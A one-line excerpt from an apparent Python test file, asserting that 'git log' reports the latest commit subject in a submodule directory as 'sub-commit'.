    assert git_host.run(["git", "log", "-1", "--format=%s", base + "HEAD"], cwd=repo + "/sub").stdout == "sub-commit\n"
